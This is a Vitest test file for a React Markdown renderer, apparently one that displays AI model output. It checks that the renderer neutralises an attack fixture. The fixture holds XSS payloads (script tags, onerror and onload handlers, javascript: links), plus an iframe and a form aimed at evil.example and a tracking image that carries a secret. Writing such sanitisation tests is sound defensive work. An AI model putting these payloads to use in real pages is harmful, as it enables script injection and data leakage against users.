// @vitest-environment jsdom
import { cleanup, render } from "@testing-library/react";
import { afterEach, describe, expect, it } from "vitest";
import { Markdown, renderMarkdown } from "./Markdown";

declare global {
  interface Window {
    __pwned?: number;
  }
}

afterEach(() => {
  cleanup();
  delete window.__pwned;
});

const ATTACK = [
  "Here is my answer.",
  "",
  '<img src=x onerror="window.__pwned=1">',
  "",
  "<script>window.__pwned=1</script>",
  "",
  "[x](javascript:alert(1)) and [y](JAVASCRIPT:alert(2)) and [z](  javascript:alert(3))",
  "",
  '<a href="javascript:alert(4)" onclick="window.__pwned=1">raw link</a>',
  "",
  '<iframe src="https://evil.example"></iframe><style>body{display:none}</style><form action="https://evil.example"><input name="q"></form>',
  "",
  '<svg onload="window.__pwned=1"><circle r="4"/></svg> <div style="position:fixed" class="toast" id="app">spoof</div>',
  "",
  "![tracker](https://evil.example/pixel.png?secret=1)",
].join("\n");

describe("Markdown", () => {
  it("never lets model HTML run: no script, img, handlers, javascript: links or embedded frames", async () => {
    const { container } = render(<Markdown text={ATTACK} />);
    // Give any stray handler (an img onerror) a chance to fire.
    await new Promise((resolve) => setTimeout(resolve, 20));
    expect(window.__pwned).toBeUndefined();
    for (const tag of ["script", "img", "iframe", "style", "form", "input", "svg", ".console-md div"])
      expect(container.querySelector(tag), tag).toBeNull();
    for (const el of container.querySelectorAll(".console-md *")) {
      for (const attr of el.attributes) {
        expect(attr.name.startsWith("on"), `${el.tagName} ${attr.name}`).toBe(false);
        expect(["style", "class", "id"]).not.toContain(attr.name);
        expect(attr.value.replace(/\s/g, "").toLowerCase()).not.toContain("javascript:");
      }
    }
    // Raw HTML is shown as text, so the reader still sees what the model wrote.
    expect(container.textContent).toContain("<script>window.__pwned=1</script>");
    expect(container.textContent).toContain('<img src=x onerror="window.__pwned=1">');
    // The javascript: links keep their text but lose their target.
    const x = [...container.querySelectorAll("a")].find((a) => a.textContent === "x");
    expect(x?.hasAttribute("href")).toBe(false);
  });

  it("turns images into links that load nothing until clicked", () => {
    const { container } = render(<Markdown text="![chart](https://example.com/chart.png)" />);
    expect(container.querySelector("img")).toBeNull();
    const link = container.querySelector("a");
    expect(link?.getAttribute("href")).toBe("https://example.com/chart.png");
    expect(link?.textContent).toBe("image: chart");
  });

  it("opens links in a new tab without handing over the window", () => {
    const { getByRole } = render(<Markdown text="See [the docs](https://example.com/docs) or <https://example.org>." />);
    const link = getByRole("link", { name: "the docs" });
    expect(link.getAttribute("href")).toBe("https://example.com/docs");
    expect(link.getAttribute("target")).toBe("_blank");
    expect(link.getAttribute("rel")).toBe("noopener noreferrer");
    expect(getByRole("link", { name: "https://example.org" }).getAttribute("rel")).toBe("noopener noreferrer");
  });

  it("renders headings, lists, emphasis, code, tables and task lists", () => {
    const text = [
      "# Report",
      "## Findings",
      "",
      "Some **bold**, _italic_ and ~~old~~ text with `inline code`.",
      "",
      "1. first",
      "2. second",
      "",
      "- [x] done",
      "- [ ] open",
      "",
      "```ts",
      "const a = 1 < 2;",
      "```",
      "",
      "| Name | Score |",
      "| :--- | ----: |",
      "| Ada  | 10    |",
      "",
      "> quoted<br>next line",
    ].join("\n");
    const { container, getByRole } = render(<Markdown text={text} />);
    expect(getByRole("heading", { level: 1, name: "Report" })).toBeTruthy();
    expect(getByRole("heading", { level: 2, name: "Findings" })).toBeTruthy();
    expect(container.querySelector("strong")?.textContent).toBe("bold");
    expect(container.querySelector("em")?.textContent).toBe("italic");
    expect(container.querySelector("del")?.textContent).toBe("old");
    expect(container.querySelectorAll("ol > li")).toHaveLength(2);
    expect([...container.querySelectorAll("ul > li")].map((li) => li.textContent?.trim())).toEqual(["☑ done", "☐ open"]);
    expect(container.querySelector("pre code")?.textContent).toBe("const a = 1 < 2;\n");
    expect(container.querySelector("p code")?.textContent).toBe("inline code");
    expect(getByRole("table")).toBeTruthy();
    expect([...container.querySelectorAll("th")].map((th) => th.textContent)).toEqual(["Name", "Score"]);
    expect(container.querySelector("td")?.textContent).toBe("Ada");
    expect(container.querySelector("th[align='right']")?.textContent).toBe("Score");
    expect(container.querySelector("blockquote br")).not.toBeNull();
  });

  it("memoises by text", () => {
    const text = "# Same text twice";
    expect(renderMarkdown(text)).toBe(renderMarkdown(text));
  });
});
